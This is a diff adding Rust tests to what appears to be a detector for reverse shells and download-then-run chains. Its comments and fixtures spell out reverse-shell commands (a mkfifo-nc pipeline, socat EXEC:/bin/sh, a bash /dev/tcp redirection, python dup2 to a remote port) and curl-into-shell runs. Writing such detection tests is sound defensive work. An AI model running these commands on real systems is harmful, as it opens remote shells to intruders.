@@ -518,3 +518,259 @@ fn reverse_shell_near_misses_and_command_lines() {
     let mut c = Correlator::new(&d).unwrap();
     assert!(ids(&mut c, &[stdio(4, &py, "dup2", 0b011, 3, "127.0.0.1:9")]).is_empty());
 }
+
+/// `p` run by another path: a symlink or renamed link to its executable.
+fn run_as(p: &Arc<Process>, executable: &str) -> Arc<Process> {
+    let mut q = (**p).clone();
+    let mut image = (*q.image).clone();
+    image.executable = executable.into();
+    image.name = executable.rsplit('/').next().unwrap_or("").into();
+    q.image = Arc::new(image);
+    Arc::new(q)
+}
+
+#[test]
+fn reverse_shell_knows_an_interpreter_by_the_file_run_not_its_name() {
+    let mut c = correlator();
+    // `ln -s /usr/bin/python3 /run/lock/p; /run/lock/p -c '...dup2...'`
+    let py = process(720, "/usr/bin/python3.12", &["p", "-c", "x"], None);
+    let linked = run_as(&py, "/run/lock/p");
+    let mut out = Vec::new();
+    c.observe_in(
+        &stdio(0, &linked, "dup2", 0b011, 9101, "203.0.113.7:4444"),
+        &mut out,
+    );
+    assert_eq!(out.len(), 1, "{out:#?}");
+    assert_eq!(out[0].rule.severity, Severity::Critical);
+    assert!(
+        out[0]
+            .message
+            .starts_with("p (pid 720) has fds 0, 1 on a socket"),
+        "{}",
+        out[0].message
+    );
+    // A shell renamed `x` with a /dev/tcp redirection.
+    let sh = process(
+        721,
+        "/usr/bin/bash",
+        &["x", "-c", "exec 3<>/dev/tcp/h/1"],
+        None,
+    );
+    assert_eq!(
+        ids(&mut c, &[exec(1, &run_as(&sh, "/dev/shm/x"))]),
+        ["rg-reverse-shell"]
+    );
+    // A program neither named like nor running an interpreter is not one.
+    let cat = run_as(&process(722, "/usr/bin/cat", &["x"], None), "/tmp/x");
+    assert!(
+        ids(
+            &mut c,
+            &[stdio(2, &cat, "execve", 0b011, 9102, "127.0.0.1:9")]
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn an_interpreters_script_is_the_first_operand_after_its_options() {
+    use super::drop_exec::{Script, script_of};
+    let s = |args: &[&str], shell| {
+        let v: Vec<String> = args.iter().map(|a| a.to_string()).collect();
+        format!("{:?}", script_of(&v, shell))
+    };
+    assert_eq!(s(&["bash", "x.sh", "arg"], true), "File(\"x.sh\")");
+    assert_eq!(
+        s(&["bash", "-e", "-o", "pipefail", "/tmp/x"], true),
+        "File(\"/tmp/x\")"
+    );
+    assert_eq!(
+        s(&["python3", "-u", "-W", "ignore", "a.py", "/tmp/d"], false),
+        "File(\"a.py\")"
+    );
+    assert_eq!(s(&["bash", "-lc", "ls /tmp/x"], true), "Other");
+    assert_eq!(s(&["perl", "-ne", "print"], false), "Other");
+    assert_eq!(s(&["python3", "-m", "http.server"], false), "Other");
+    assert_eq!(s(&["sh"], true), "Stdin");
+    assert_eq!(s(&["bash", "-s", "--", "arg"], true), "Stdin");
+    assert_eq!(s(&["bash", "/dev/fd/63"], true), "Stdin");
+    assert_eq!(format!("{:?}", Script::Other), "Other");
+}
+
+#[test]
+fn drop_exec_through_an_interpreter() {
+    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
+    let curl = process(
+        820,
+        "/usr/bin/curl",
+        &["curl", "-o", "/tmp/x.py"],
+        Some(shell.clone()),
+    );
+    let vi = process(821, "/usr/bin/vi", &["vi"], Some(shell.clone()));
+    let interp =
+        |pid, exe: &str, args: &[&str]| exec(5, &process(pid, exe, args, Some(shell.clone())));
+    // (severity, message) of what a fresh correlator finds in `events`.
+    let found = |events: [Event; 2]| {
+        let mut c = correlator();
+        let mut out = Vec::new();
+        for ev in &events {
+            c.observe_in(ev, &mut out);
+        }
+        out.into_iter()
+            .map(|f| (f.rule.severity, f.message))
+            .collect::<Vec<_>>()
+    };
+    // Downloaded into /tmp, run by python: critical, as an exec would be.
+    assert_eq!(
+        found([
+            file(0, &curl, FileOp::Open, "/tmp/x.py"),
+            interp(920, "/usr/bin/python3", &["python3", "/tmp/x.py"]),
+        ]),
+        [(
+            Severity::Critical,
+            "/tmp/x.py written by /usr/bin/curl then run by /usr/bin/python3, pid 920 (the writer downloads, in a temporary directory)".to_string()
+        )]
+    );
+    // By a relative name: the latest drop of that name.
+    let f = found([
+        file(0, &curl, FileOp::Open, "/var/tmp/w/atomic.sh"),
+        interp(921, "/usr/bin/bash", &["bash", "./w/atomic.sh"]),
+    ]);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!(f[0].0, Severity::Critical);
+    // A user's own script, written and run in one session: low.
+    let f = found([
+        file(0, &vi, FileOp::Open, "/home/ann/myscript.sh"),
+        interp(922, "/usr/bin/bash", &["bash", "myscript.sh"]),
+    ]);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!(f[0].0, Severity::Low);
+    // Near misses: a script not dropped, a dropped file that is the
+    // script's argument, a name that only ends like the drop, a command
+    // string mentioning it.
+    let mut c = correlator();
+    let events = [
+        file(0, &vi, FileOp::Open, "/tmp/data.sh"),
+        interp(
+            923,
+            "/usr/bin/python3",
+            &["python3", "/opt/tool.py", "/tmp/data.sh"],
+        ),
+        interp(924, "/usr/bin/bash", &["bash", "xdata.sh"]),
+        interp(925, "/usr/bin/bash", &["bash", "-c", "cat /tmp/data.sh"]),
+        interp(926, "/usr/bin/cat", &["cat", "/tmp/data.sh"]),
+    ];
+    assert!(ids(&mut c, &events).is_empty());
+}
+
+#[test]
+fn a_download_piped_into_a_shell() {
+    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
+    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(shell.clone()));
+    let curl = child(830, "/usr/bin/curl", &["curl", "-s", "http://h/i.sh"]);
+    let mut c = correlator();
+    let mut out = Vec::new();
+    for ev in [exec(0, &curl), exec(1, &child(831, "/usr/bin/sh", &["sh"]))] {
+        c.observe_in(&ev, &mut out);
+    }
+    assert_eq!(out.len(), 1, "{out:#?}");
+    assert_eq!(out[0].rule.id, "rg-drop-exec");
+    assert_eq!(out[0].rule.severity, Severity::High);
+    assert_eq!(
+        out[0].message,
+        "/usr/bin/sh (pid 831) reads its script from its standard input, started with \
+         /usr/bin/curl (pid 830) by the same parent: a download piped into a shell"
+    );
+    assert_eq!(
+        out[0]
+            .evidence
+            .iter()
+            .map(|e| (e.action, e.pid))
+            .collect::<Vec<_>>(),
+        [("exec", 830), ("exec", 831)]
+    );
+    // The shell's exec seen first (the pipeline's children race): the
+    // same finding, at the download's exec, evidence oldest first.
+    let mut c = correlator();
+    let mut out = Vec::new();
+    for ev in [exec(0, &child(836, "/usr/bin/sh", &["sh"])), exec(1, &curl)] {
+        c.observe_in(&ev, &mut out);
+    }
+    assert_eq!(out.len(), 1, "{out:#?}");
+    assert_eq!(
+        out[0].evidence.iter().map(|e| e.pid).collect::<Vec<_>>(),
+        [836, 830]
+    );
+    // Near misses: curl into grep, into `sh -c`, a shell started long
+    // after, a shell of another parent.
+    let mut c = correlator();
+    let other = process(832, "/usr/bin/sh", &["sh"], chain(&["/usr/sbin/cron"]));
+    let events = [
+        exec(10, &curl),
+        exec(11, &child(833, "/usr/bin/grep", &["grep", "x"])),
+        exec(11, &child(834, "/usr/bin/sh", &["sh", "-c", "echo"])),
+        exec(12, &other),
+        exec(10_000, &child(835, "/usr/bin/bash", &["bash"])),
+    ];
+    assert!(ids(&mut c, &events).is_empty());
+}
+
+#[test]
+fn reverse_shell_over_a_relay() {
+    let top = chain(&["/sbin/init", "/usr/bin/bash"]).unwrap();
+    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(top.clone()));
+    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 4444 > /tmp/f,
+    // the relay's exec seen first or last.
+    let sh = child(840, "/usr/bin/dash", &["sh", "-i"]);
+    let nc = child(841, "/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"]);
+    for order in [[exec(0, &nc), exec(1, &sh)], [exec(0, &sh), exec(1, &nc)]] {
+        let mut c = correlator();
+        let mut out = Vec::new();
+        for ev in &order {
+            c.observe_in(ev, &mut out);
+        }
+        assert_eq!(out.len(), 1, "{out:#?}");
+        assert_eq!(out[0].rule.id, "rg-reverse-shell");
+        assert_eq!(out[0].rule.severity, Severity::High);
+        assert_eq!(
+            out[0].message,
+            "shell pid 840 is wired to a network relay: a shell reading its standard input and \
+             the network relay /usr/bin/nc.openbsd started by pid 101 within 2 s of each other: \
+             one pipeline"
+        );
+        // Oldest first.
+        assert_eq!(
+            out[0].evidence.iter().map(|e| e.pid).collect::<Vec<_>>(),
+            order.iter().map(|e| e.pid).collect::<Vec<_>>()
+        );
+    }
+    // socat TCP:10.0.0.9:4444 EXEC:/bin/sh: the relay starts the shell.
+    let socat = child(
+        842,
+        "/usr/bin/socat",
+        &["socat", "TCP:10.0.0.9:4444", "EXEC:/bin/sh,pty,stderr"],
+    );
+    let under = process(843, "/usr/bin/dash", &["/bin/sh"], Some(socat.clone()));
+    let mut c = correlator();
+    assert_eq!(
+        ids(&mut c, &[exec(0, &socat), exec(1, &under)]),
+        ["rg-reverse-shell"]
+    );
+    // Near misses: `cmd | nc host port`, a shell running a script or a
+    // command in a pipeline with nc, a relay and a shell far apart, socat
+    // without a program, a shell under another parent.
+    let mut c = correlator();
+    let plain_socat = child(844, "/usr/bin/socat", &["socat", "-", "TCP:h:1"]);
+    let events = [
+        exec(10, &child(845, "/usr/bin/tar", &["tar", "c", "."])),
+        exec(10, &child(846, "/usr/bin/nc", &["nc", "h", "9"])),
+        exec(11, &child(847, "/usr/bin/bash", &["bash", "backup.sh"])),
+        exec(11, &child(848, "/usr/bin/dash", &["sh", "-c", "gzip"])),
+        exec(20, &plain_socat),
+        exec(
+            21,
+            &process(849, "/usr/bin/dash", &["sh"], Some(plain_socat.clone())),
+        ),
+        exec(9_000, &child(850, "/usr/bin/dash", &["sh", "-i"])),
+    ];
+    assert!(ids(&mut c, &events).is_empty());
+}
